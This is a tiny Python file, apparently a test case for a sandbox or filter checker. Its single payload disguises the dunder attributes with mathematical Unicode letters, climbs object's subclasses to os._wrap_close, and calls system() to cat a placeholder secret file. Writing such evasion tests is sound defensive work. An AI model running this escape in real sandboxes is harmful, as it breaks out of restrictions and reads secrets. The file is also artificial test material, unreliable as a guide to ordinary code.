# Letters of the mathematical alphabets in dunder attributes.
# effect: run
root = ().__𝒸lass__.__𝔟ase__
[k for k in root.__𝓼ubclasses__() if k.__name__ == "_wrap_close"][0].__init__.__𝗀lobals__["system"]("cat @SECRET@")
